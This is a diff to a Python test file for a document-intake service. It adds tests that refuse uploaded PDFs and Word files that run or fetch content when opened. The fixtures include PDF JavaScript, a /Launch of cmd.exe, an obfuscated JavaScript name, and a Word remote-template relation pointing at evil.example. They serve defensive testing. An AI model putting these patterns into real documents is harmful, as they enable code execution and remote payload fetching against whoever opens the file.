@@ -7,6 +7,7 @@ import io
 import re
 import zipfile
 from collections.abc import AsyncIterator
+from dataclasses import replace
 from datetime import date, timedelta
 from pathlib import Path
 from typing import Any
@@ -20,7 +21,15 @@ from libs.service import NotFound
 from services.intake.application.vault import Vault
 from services.intake.domain import Evidence, Opportunity
 from services.intake.domain.evidence import LARGEST, File, examined
-from services.intake.domain.refusals import FileEmpty, FileKindNotTaken, FileTooLarge, FileTwice, NotYetHappened
+from services.intake.domain.refusals import (
+    FileActive,
+    FileEmpty,
+    FileKindNotTaken,
+    FileTooLarge,
+    FileTwice,
+    NotYetHappened,
+    TooManyFiles,
+)
 from tests.given import NOW, event, given
 from tests.hands import CARER, ELSEWHERE, MANAGER, Reception, received
 from tests.servers import Backend, Messaging
@@ -96,6 +105,49 @@ def test_the_same_file_is_on_a_record_once() -> None:
         it.attach(A_FILE, NOW.date(), "Two")
 
     given(Evidence, OPENED).when(twice).refused(FileTwice)
+
+
+def word_with(parts: dict[str, str]) -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
+        for name, said in ({"word/document.xml": "<w/>"} | parts).items():
+            packed.writestr(name, said)
+    return made.getvalue()
+
+
+RELATION = '<Relationship Type="http://x/{0}" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"%PDF-1.7 1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>>>> endobj",
+        b"%PDF-1.7 1 0 obj <</S /J#61vaScript>> endobj",
+        b"%PDF-1.7 1 0 obj <</S /Launch /F (cmd.exe)>> endobj",
+        b"%PDF-1.7 1 0 obj <</Names <</EmbeddedFiles 2 0 R>>>> endobj",
+        word_with({"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate")}),
+        word_with({"word/_rels/document.xml.rels": '<Relationship TargetMode="External" Type="http://x/oleObject"/>'}),
+        word_with({"word/embeddings/oleObject1.bin": "x"}),
+        word_with({"word/activeX/activeX1.xml": "<x/>"}),
+        word_with({"word/_rels/document.xml.rels": "x" * (2 * 1024 * 1024)}),
+    ],
+)
+def test_a_file_that_runs_or_fetches_something_when_it_is_opened_is_refused_by_name(content: bytes) -> None:
+    with pytest.raises(FileActive):
+        examined(content)
+
+
+def test_a_link_in_a_document_and_a_plain_form_are_no_reason_to_refuse_it() -> None:
+    examined(word_with({"word/_rels/document.xml.rels": RELATION.format("hyperlink")}))
+    examined(b"%PDF-1.7 1 0 obj <</Type /Catalog /AcroForm 2 0 R /JSON 1>> endobj")
+
+
+def test_a_record_takes_as_many_files_as_the_rules_allow() -> None:
+    def more(it: Evidence) -> None:
+        for number in range(3):
+            it.attach(replace(A_FILE, sha256=f"{number}" * 64), NOW.date(), "", most=2)
+
+    given(Evidence, OPENED).when(more).refused(TooManyFiles)
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="module")
